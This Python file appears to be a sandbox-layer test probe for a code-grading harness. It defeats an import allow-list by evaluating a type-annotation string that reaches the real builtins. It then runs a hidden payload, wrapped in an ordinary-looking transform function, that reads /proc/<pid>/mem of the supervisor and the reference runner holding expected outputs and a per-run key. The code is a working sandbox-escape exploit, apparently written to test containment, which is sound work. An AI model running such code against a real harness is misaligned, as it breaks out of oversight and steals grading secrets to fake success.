"""Read other processes' memory: /proc/<pid>/mem of the harness supervisor and
the reference runner (where the expected output and the per-run key live),
and ptrace-attach through /proc/<pid>/maps. The supervisor is non-dumpable."""
import typing


def _real_builtins(hint: "lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']"):
    """The import allow-list is a policy, not the boundary: typing evaluates this
    annotation string, which the source check never parses, and it reaches the
    real builtins through os._wrap_close. The payload below then runs with them."""


_BUILTINS = typing.get_type_hints(_real_builtins)["hint"]()
PAYLOAD = r'''
import os

import numpy as np


def _probe_once():
    me = os.getpid()
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == me:
            continue
        try:
            with open(f"/proc/{pid}/comm") as comm:
                if comm.read().strip() == "bwrap":
                    continue  # bubblewrap's own pid 1 holds nothing of the job's
        except OSError:
            continue
        try:
            with open(f"/proc/{pid}/maps") as maps:
                regions = [line.split()[0] for line in maps if line.split()[1].startswith("rw")]
            with open(f"/proc/{pid}/mem", "rb") as mem:
                for region in regions:
                    start, end = (int(bound, 16) for bound in region.split("-"))
                    mem.seek(start)
                    data = mem.read(min(end - start, 1 << 20))
                    found.append(f"read {len(data)} bytes of pid {pid}'s memory at {region}")
                    break
        except (OSError, ValueError):
            continue
    return found


def _probe():
    """Keep trying for a while: a process that is readable only during a window
    (start-up, or between two protocol steps) is caught if the window opens."""
    import time

    deadline = time.monotonic() + 1.5
    while time.monotonic() < deadline:
        found = _probe_once()
        if found:
            return found
    return []


_FINDINGS = _probe()


def transform(x):
    _FINDINGS.extend(_probe_once())
    if _FINDINGS:
        raise RuntimeError("ESCAPED: " + "; ".join(_FINDINGS))
    return np.sqrt(x * x + 1.0) * 2.0 - x
'''
_namespace = {"__builtins__": _BUILTINS, "__name__": "payload"}
_BUILTINS["exec"](PAYLOAD, _namespace)
transform = _namespace["transform"]
_FINDINGS = _namespace.get("_FINDINGS")  # for the sandbox-layer tests, which run this file directly
_written = _namespace.get("_written")
